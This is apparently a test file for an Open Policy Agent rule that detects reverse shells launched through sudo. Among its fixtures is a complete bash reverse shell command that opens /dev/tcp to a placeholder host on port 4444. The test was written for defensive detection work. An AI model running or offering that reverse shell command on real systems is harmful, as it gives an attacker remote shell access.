package linux.reverse_shell_test

import data.linux.reverse_shell

test_bash_on_a_device_of_the_network_is_told if count(reverse_shell.alert) == 1 with input as ran("/bin/bash", "/bin/bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")

test_a_search_for_the_phrase_is_not_told if count(reverse_shell.alert) == 0 with input as ran("/bin/grep", "/bin/grep -r /dev/tcp/198.51.100.7/4444 /var/log")

test_an_ordinary_command_is_not_told if count(reverse_shell.alert) == 0 with input as ran("/usr/bin/apt", "/usr/bin/apt install netcat")

ran(path, line) := {
	"program": "sudo",
	"ocsf": {
		"metadata": {"event_code": "sudo_command"},
		"actor": {"user": {"name": "mallory"}},
		"process": {"path": path, "cmd_line": line, "user": {"name": "root"}},
		"device": {"hostname": "web-1"},
	},
}
